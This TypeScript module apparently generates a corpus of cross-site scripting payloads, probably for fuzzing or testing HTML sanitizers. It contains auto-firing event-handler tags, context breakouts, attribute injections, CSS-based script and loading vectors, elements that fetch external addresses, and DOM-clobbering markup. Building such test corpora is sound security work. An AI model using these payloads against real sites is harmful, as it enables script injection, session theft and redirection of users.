import { type Attack, addresses, pairs, vectors } from './pieces.ts'

/** Elements with events that fire by themselves or on the first touch. */
const eventTags: readonly [tag: string, events: readonly string[]][] = [
  ['img src=x', ['onerror', 'onloadstart', 'onfocus tabindex=1 autofocus', 'onpointerover']],
  ['svg', ['onload', 'onfocusin tabindex=1 autofocus', 'onclick']],
  ['svg><animate dur=1s attributeName=x', ['onbegin', 'onend', 'onrepeat']],
  ['svg><set attributeName=x', ['onbegin', 'onend']],
  ['body', ['onload', 'onpageshow', 'onfocus', 'onhashchange', 'onbeforeunload', 'onmessage', 'onscroll']],
  ['input autofocus', ['onfocus', 'onblur', 'oninput', 'oninvalid', 'onauxclick']],
  ['input type=image src=x', ['onerror', 'onload']],
  ['button autofocus', ['onfocus', 'onclick', 'onpointerdown']],
  ['select autofocus', ['onfocus', 'onchange']],
  ['textarea autofocus', ['onfocus', 'onbeforeinput', 'onselect']],
  ['keygen autofocus', ['onfocus']],
  ['details open', ['ontoggle', 'onclick']],
  ['dialog open', ['onclose', 'oncancel']],
  ['div popover', ['onbeforetoggle', 'ontoggle']],
  ['video src=x', ['onerror', 'onloadstart', 'onstalled']],
  ['video><source', ['onerror']],
  ['audio src=x', ['onerror', 'onabort', 'onemptied']],
  ['iframe', ['onload', 'onerror']],
  ['object data=x', ['onerror', 'onload']],
  ['embed src=x', ['onerror', 'onload']],
  ['link rel=stylesheet href=x', ['onerror', 'onload']],
  ['style', ['onload', 'onerror']],
  ['script src=x', ['onerror', 'onload']],
  ['marquee', ['onstart', 'onbounce', 'onfinish']],
  ['frameset', ['onload', 'onpageshow']],
  ['a href=#', ['onclick', 'onmouseover', 'ondragstart draggable=true', 'oncontextmenu']],
  [
    'div',
    ['onmouseenter', 'onwheel', 'ontouchstart', 'onpaste contenteditable', 'oncopy', 'ongotpointercapture'],
  ],
  ['div style="animation:x 1s"', ['onanimationstart', 'onanimationend', 'onwebkitanimationiteration']],
  ['div style="transition:color 1s"', ['ontransitionrun', 'ontransitionend']],
  [
    'p',
    ['onbeforecopy', 'onbeforematch hidden=until-found', 'onscrollend', 'oncontentvisibilityautostatechange'],
  ],
  ['form', ['onsubmit', 'onreset', 'onformdata']],
  ['math', ['onmouseover', 'onfocus tabindex=1']],
  ['custom-element', ['onfocus tabindex=1 autofocus', 'onslotchange']],
  ['bgsound src=x', ['onerror']],
  ['image src=x', ['onerror', 'onload']],
]

const events: readonly Attack[] = eventTags.flatMap(([tag, names]) =>
  names.map((name): Attack => {
    const [event, ...others] = name.split(' ')
    return ({ call }) => `<${[tag, ...others].join(' ')} ${event}=${call}>`
  }),
)

const endsOf = [
  ...['">', "'>", '>', '`>', '-->', '--!>', ']]>', '*/', '?>', '%>'],
  ...['title', 'textarea', 'style', 'script', 'noscript', 'template', 'select', 'svg', 'math', 'dd'].map(
    (tag) => `</${tag}>`,
  ),
  ...['</TITLE\n>', '</style/x>', '</script\t>', '</ScRiPt x="">'],
]

/** Closes the surrounding element and starts another one. */
const breakouts: readonly Attack[] = pairs(endsOf, vectors).map(
  ([end, vector]) =>
    (one) =>
      end + vector(one),
)

const quotes = ['"', "'", '`', '']
const gaps = [' ', '/', '\n', '\t', '\f', '" "']

/** Stays within the tag and adds an attribute. */
const attributes: readonly Attack[] = pairs(pairs(quotes, gaps), ['onfocus', 'onmouseover', 'style']).map(
  ([[quote, gap], event]): Attack => {
    if (event === 'style')
      return ({ elsewhere }) => `x${quote}${gap}style=${quote}background:url(${elsewhere})`
    return ({ call }) => `x${quote}${gap}${event}=${quote}${call}${quote}${gap}autofocus${gap}x=${quote}`
  },
)

const holders: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">press</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>press</button></form>`,
  (address) => `<button form=f formaction='${address}'>press</button>`,
  (address) => `<object data='${address}'></object>`,
  (address) => `<embed src='${address}'>`,
  (address) => `<base href="${address}/">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>press</text></a></svg>`,
  (address) => `<svg><use href="${address}#x"></use></svg>`,
  (address) => `<math href="${address}">press</math>`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<script src="${address}"></script>`,
  (address) => `<img srcset="${address} 1x">`,
  (address) => `<video poster="${address}"></video>`,
  (address) => `<a href=/ ping="${address}">press</a>`,
]
const telling = addresses.filter((_, index) => [0, 9, 31, 35].includes(index))

const addressHolders: readonly Attack[] = pairs(holders, telling).map(
  ([hold, address]) =>
    (one) =>
      hold(address(one)),
)

const styles: readonly Attack[] = [
  ({ elsewhere }) => `<style>@import '${elsewhere}';</style>`,
  ({ elsewhere }) => `<style>*{background:url(${elsewhere})}</style>`,
  ({ elsewhere }) => `<div style="background-image:url(${elsewhere})">x</div>`,
  ({ elsewhere }) => `<div style='list-style:url(${elsewhere})'>x</div>`,
  ({ call }) => `<div style="width:expression(${call})">x</div>`,
  ({ call }) => `<div style="behavior:url(javascript:${call})">x</div>`,
  ({ call }) => `<style>li{-moz-binding:url("data:text/xml,${call}")}</style>`,
  ({ call }) => `red;background:url(javascript:${call})`,
  ({ call }) => `}</style><script>${call}</script><style>{`,
  ({ elsewhere }) => `x}@font-face{font-family:x;src:url(${elsewhere})}*{font-family:x`,
  ({ elsewhere }) => `\\3c/style><img src=${elsewhere}>`,
]

/** DOM clobbering: elements whose names shadow properties of the document. */
const clobbering: readonly Attack[] = [
  () => '<a id=xss href=javascript:alert(1)>',
  () => '<form name=body><input name=attributes></form>',
  () => '<img name=getElementById>',
  () => '<a id=config><a id=config name=url href=data:,x>',
  () => '<form id=document><input name=cookie></form>',
  () => '<iframe name=currentScript srcdoc=x></iframe>',
  () => '<object id=defaultView></object>',
  () => '<embed name=trustedTypes>',
  () => '<input id=__proto__ name=constructor>',
  () => '<div id=main tabindex=-1></div><div data-island=SignUp data-props={}></div>',
]

export const markup = {
  vectors,
  events,
  breakouts,
  attributes,
  addressHolders,
  styles,
  clobbering,
}
